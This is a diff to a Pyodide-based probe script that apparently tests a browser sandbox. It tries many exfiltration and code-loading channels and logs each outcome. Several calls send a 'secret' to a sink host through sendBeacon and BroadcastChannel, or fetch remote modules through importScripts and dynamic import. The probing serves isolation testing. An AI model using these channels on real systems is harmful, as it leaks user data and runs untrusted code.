@@ -69,6 +69,10 @@ def scrape(page):
             target.addEventListener(event, proxy)
         return target
 
+    def navigator():
+        # Reflect.get calls the getter on the worker's global itself.
+        return js.Reflect.get(js.globalThis, "navigator")
+
     def options(**kw):
         return to_js(kw, dict_converter=js.Object.fromEntries)
 
@@ -90,7 +94,7 @@ def scrape(page):
     attempt("xhr-async", lambda: xhr(True))
     attempt("websocket", lambda: on_events("websocket", js.WebSocket.new(sink.replace("http", "ws") + "/ws"), "open", "error"))
     attempt("eventsource", lambda: on_events("eventsource", js.EventSource.new(f"{sink}/events"), "open", "error"))
-    attempt("sendBeacon", lambda: js.navigator.sendBeacon(f"{sink}/beacon", secret))
+    attempt("sendBeacon", lambda: navigator().sendBeacon(f"{sink}/beacon", secret))
     attempt("importScripts", lambda: js.importScripts(f"{sink}/script.js"))
     attempt("eval-dynamic-import", lambda: later("eval-dynamic-import", js.eval(f"import('{sink}/module.js')")))
     attempt("Function-constructor", lambda: js.Function.new(f"return import('{sink}/module.js')")())
@@ -157,11 +161,11 @@ def scrape(page):
     attempt("socket", raw_socket)
     attempt("chrome.runtime.sendMessage", lambda: later("chrome.runtime.sendMessage", js.chrome.runtime.sendMessage(options(target="service-worker", name="GetLastRun", payload=options(tabId=1)))))
     attempt("browser.runtime", lambda: js.browser.runtime.getURL(""))
-    attempt("navigator.serviceWorker", lambda: js.navigator.serviceWorker.controller)
+    attempt("navigator.serviceWorker", lambda: navigator().serviceWorker.controller)
     attempt("BroadcastChannel", lambda: js.BroadcastChannel.new("gleaner").postMessage(secret))
     attempt("indexedDB", lambda: js.indexedDB.open("gleaner-probe"))
     attempt("caches", lambda: later("caches", js.caches.keys()))
-    attempt("navigator.storage-OPFS", lambda: later("navigator.storage-OPFS", js.navigator.storage.getDirectory()))
+    attempt("navigator.storage-OPFS", lambda: later("navigator.storage-OPFS", navigator().storage.getDirectory()))
 
     for route, (status, outcome) in sorted(LATE.items()):
         results.append({"route": route, "phase": "async", "status": status, "outcome": outcome})
